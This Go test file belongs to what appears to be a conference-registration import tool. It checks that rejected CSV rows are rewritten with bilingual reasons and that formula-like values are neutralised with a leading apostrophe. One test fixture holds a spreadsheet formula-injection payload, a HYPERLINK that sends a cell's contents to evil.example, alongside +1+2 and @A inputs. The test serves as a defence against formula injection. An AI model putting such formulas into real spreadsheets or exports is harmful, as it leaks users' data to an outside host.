package data_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	. "congres/data"
	"congres/data/spreadsheet"
)

// TestWriteRejectedRows checks that the rows an import rejects are written
// again with their line and whole reason, in the file's own columns and
// delimiter, in both languages: its header cells as the file writes them
// (a trailing space kept), "Tarif : " in French.
func TestWriteRejectedRows(t *testing.T) {
	s := mustOpen(t)
	path := exportFile(t, "helloasso.csv", true, false,
		"Export HelloAsso du 12/09/2026;;;;;", ";;;;;",
		"Référence commande;Nom participant;Prénom participant;Email;Tarif;Numéro de billet ",
		"1041;Lefèvre;Hélène;helene@example.org;Adhérent·e;48213377",
		"1042;Dupont;Jean;jean@@example;Adhérent·e;", // no ticket: the email says who it is (with one, imported without it)
		"1043;Benali;Karim;karim@example.org;Mécène;48213379",
		"1044;Roux;Camille;camille@example.org;Adhérent·e;48213380")
	src := spreadsheet.Source{Path: path}
	r, err := s.Import(ctx, src, ImportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	wantCounts(t, r, 4, 2, 0, 0, 0, 2)
	for _, c := range []struct{ lang, line, reason, email, category string }{
		{"fr", "Ligne", "Motif", "Email : " + Message(ErrEmailInvalid.With("jean@@example"), "fr"),
			"Tarif : " + Message(ErrImportCategory.With("Mécène"), "fr")},
		{"en", "Line", "Reason", "Email: " + Message(ErrEmailInvalid.With("jean@@example"), "en"),
			"Tarif: " + Message(ErrImportCategory.With("Mécène"), "en")},
	} {
		var b bytes.Buffer
		if err := WriteRejectedRows(ctx, &b, src, r, c.lang); err != nil {
			t.Fatal(err)
		}
		text, ok := strings.CutPrefix(b.String(), "\ufeff")
		if !ok {
			t.Fatalf("no BOM: %q", b.String())
		}
		rd := csv.NewReader(strings.NewReader(text))
		rd.Comma = ';'
		rows, err := rd.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		want := [][]string{
			{c.line, c.reason, "Référence commande", "Nom participant", "Prénom participant", "Email", "Tarif", "Numéro de billet "},
			{"5", c.email, "'1042", "Dupont", "Jean", "jean@@example", "Adhérent·e", ""},
			{"6", c.category, "'1043", "Benali", "Karim", "karim@example.org", "Mécène", "'48213379"},
		}
		if len(rows) != len(want) {
			t.Fatalf("%s: %q", c.lang, rows)
		}
		for i := range want {
			if strings.Join(rows[i], "|") != strings.Join(want[i], "|") {
				t.Errorf("%s row %d: %q, want %q", c.lang, i, rows[i], want[i])
			}
		}
	}
}

// TestRejectedRowsStayText: the file of rejected rows is opened in a
// spreadsheet to correct them, so a value that one would evaluate
// (=HYPERLINK(…), +1+2, @A) or turn into a number (a ticket, an amount)
// is written as a saved list writes it, after an apostrophe; imported
// again once corrected, the file gives the values as they were.
func TestRejectedRowsStayText(t *testing.T) {
	s := mustOpen(t)
	path := exportFile(t, "export.csv", true, false,
		"Nom;Prénom;Email;Téléphone;Structure;Tarif;Montant;Numéro de billet",
		`"=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")";Mal;mal@ex.example;+33 6 12 34 56 78;@A;Mécène;120,00;00123`,
		"Roux;Lina;lina@ex.example;;+1+2;Mécène;45;77040")
	src := spreadsheet.Source{Path: path}
	r, err := s.Import(ctx, src, ImportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	wantCounts(t, r, 2, 0, 0, 0, 0, 2)
	var b bytes.Buffer
	if err := WriteRejectedRows(ctx, &b, src, r, "en"); err != nil {
		t.Fatal(err)
	}
	rd := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff")))
	rd.Comma = ';'
	rows, err := rd.ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("%q, %v", rows, err)
	}
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"Cliquez")`, "Mal", "mal@ex.example", "'+33 6 12 34 56 78", "'@A", "Mécène", "'120,00", "'00123"}
	if got := rows[1][2:]; strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("row written %q,\nwant %q", got, want)
	}
	if got := rows[2][6:9]; got[0] != "'+1+2" || got[2] != "'45" {
		t.Errorf("row written %q", rows[2])
	}
	rejected := filepath.Join(t.TempDir(), "rejected.csv")
	if err := os.WriteFile(rejected, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	r, err = s.Import(ctx, spreadsheet.Source{Path: rejected}, ImportOptions{CreateCategories: true})
	if err != nil {
		t.Fatal(err)
	}
	wantCounts(t, r, 2, 2, 0, 0, 0, 0)
	ps := people(t, s)
	if len(ps) != 2 {
		t.Fatalf("people %+v", ps)
	}
	p := ps[0] // =HYPERLINK… sorts before Roux
	if !strings.HasPrefix(p.LastName, "=HYPERLINK(") || p.Phone != "+33 6 12 34 56 78" || p.Organisation != "@A" || p.FeeCents != 12000 {
		t.Errorf("imported again: %+v", p)
	}
	if ps[1].Organisation != "+1+2" {
		t.Errorf("imported again: %+v", ps[1])
	}
}
